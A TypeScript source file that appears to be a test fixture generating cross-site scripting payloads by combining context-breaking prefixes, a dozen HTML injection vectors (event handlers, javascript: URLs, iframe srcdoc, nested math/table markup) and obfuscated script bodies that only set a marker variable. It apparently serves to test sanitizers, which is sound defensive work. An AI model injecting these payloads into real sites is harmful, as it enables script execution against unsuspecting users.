/** Markup and scripts for every place in a page: ways to begin × what runs. Each sets `globalThis.hit` where it does. */

const RUN = [
  'globalThis.hit=1',
  '[]["filter"]["constructor"]("globalThis.hit=1")()',
  'hit&#61;1',
  '&#103;lobalThis.hit=1',
]
const BEGIN = ['', '">', "'>", '</script>', '</style></title></textarea>', '-->', ']]>', '`}', '\u2028', '{{', '${']

const WAYS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt/x>${run}</sCrIpT>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img/src=x\tonerror='${run}'//`,
  (run) => `<svg onload="${run}">`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<details open ontoggle="${run}">`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
]

/** In groups of which a page shows each as a whole. */
export const XSS_PAYLOADS: readonly (readonly string[])[] = BEGIN.map((begin) =>
  WAYS.flatMap((way) => RUN.map((run) => begin + way(run))),
)
